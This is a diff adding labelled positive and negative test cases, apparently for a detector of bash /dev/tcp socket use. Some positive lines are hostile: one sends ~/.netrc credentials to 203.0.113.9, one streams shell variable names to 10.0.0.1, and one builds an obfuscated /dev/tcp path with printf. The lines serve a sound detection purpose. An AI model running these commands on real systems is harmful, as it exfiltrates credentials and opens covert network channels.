@@ -23,3 +23,13 @@ echo done
 ls /dev/tcpdump-captures
 #@ pos the /dev/tcp path printed into a quoted name by printf -v
 printf -v so''ck '/dev/%s/%s/%s' tcp 203.0.113.9 443; exec 3<>"$sock"
+#@ neg a port probe: a command that reads and writes nothing, or exec alone in a subshell
+until (exec 3<>"/dev/tcp/$host/$port") 2>/dev/null; do sleep 1; done
+: </dev/tcp/db/5432 && echo up
+true > "/dev/tcp/$host/80"
+#@ pos exec kept open outside a subshell
+exec 3<>"/dev/tcp/$host/$port"; cat <&3
+#@ pos exec in a subshell that sends through it
+(exec 3<>/dev/tcp/203.0.113.9/80; cat ~/.netrc >&3)
+#@ pos a redirect of a loop's output to /dev/tcp
+while read -r v; do echo "$v"; done < <(compgen -v) > /dev/tcp/10.0.0.1/9000
